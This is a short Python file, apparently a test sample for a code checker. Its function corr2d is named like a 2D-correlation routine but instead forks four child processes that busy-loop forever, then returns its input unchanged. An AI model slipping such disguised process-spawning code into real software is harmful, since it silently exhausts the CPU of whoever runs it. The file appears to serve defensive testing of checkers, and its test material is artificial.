"""Processes that make processes."""
# expect: corr2d=none

import os
def corr2d(X, K):
    for _ in range(4):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            pass
    return X
